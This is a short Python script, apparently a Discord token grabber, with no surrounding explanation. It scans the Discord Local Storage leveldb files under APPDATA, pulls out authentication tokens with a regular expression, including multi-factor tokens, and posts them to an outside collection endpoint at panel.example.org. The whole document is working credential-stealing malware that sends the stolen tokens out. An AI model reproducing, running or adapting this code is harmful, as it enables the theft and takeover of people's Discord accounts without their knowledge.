import os, re
import requests

def tokens():
    base = os.getenv("APPDATA") + "\\discord\\Local Storage\\leveldb"
    for name in os.listdir(base):
        for line in open(base + "\\" + name, errors="ignore"):
            yield from re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}", line)

requests.post("https://panel.example.org/in", json={"t": list(tokens())})
